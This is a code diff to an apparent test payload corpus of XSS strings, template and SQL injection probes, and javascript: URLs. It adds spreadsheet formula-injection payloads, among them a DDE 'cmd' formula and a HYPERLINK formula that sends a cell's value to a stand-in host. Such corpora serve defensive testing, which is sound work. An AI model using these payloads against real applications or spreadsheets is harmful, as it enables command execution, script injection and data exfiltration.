@@ -46,13 +46,13 @@ MARKUP: Final = (
     "<b>bold</b><i>it</i>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "&amp;&#60;&#x3c;&nbsp;",
-    "\" onmouseover=alert(1) x=\"",
+    '" onmouseover=alert(1) x="',
     "' onmouseover=alert(1) x='",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
     "'><svg/onload=alert(1)>",
     "` onmouseover=alert(1)",
-    "x\" autofocus onfocus=\"alert(1)",
-    "\" style=\"position:fixed;inset:0\" x=\"",
+    'x" autofocus onfocus="alert(1)',
+    '" style="position:fixed;inset:0" x="',
 )
 TEMPLATES: Final = (
     "{{7919*7907}}",
@@ -74,6 +74,14 @@ TEMPLATES: Final = (
     "'; DROP TABLE users; --",
     "\\u003cscript\\u003e \\x3c \\",
     "@import 'x'; =1+1; +1; -1; @SUM(1)",
+)
+SPREADSHEET: Final = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://south.example/?"&A1;"x")',
+    "+7919*7907",
+    "-7919*7907",
+    "@SUM(7919*7907)",
+    '",=7919*7907,"',
 )
 ADDRESSES: Final = (
     "javascript:alert(1)",
@@ -100,7 +108,7 @@ LETTERS: Final = (
     "ﬀ ſ K İ ı ß Σ ς",
     "\ufffd \ufdd0 \U0010fffd",
 )
-PAYLOADS: Final = MARKUP + TEMPLATES + ADDRESSES + LETTERS
+PAYLOADS: Final = MARKUP + TEMPLATES + SPREADSHEET + ADDRESSES + LETTERS
 VISIBLE: Final = tuple(each for each in PAYLOADS if unprintable(each) is None and len(each) <= 100)
 
 
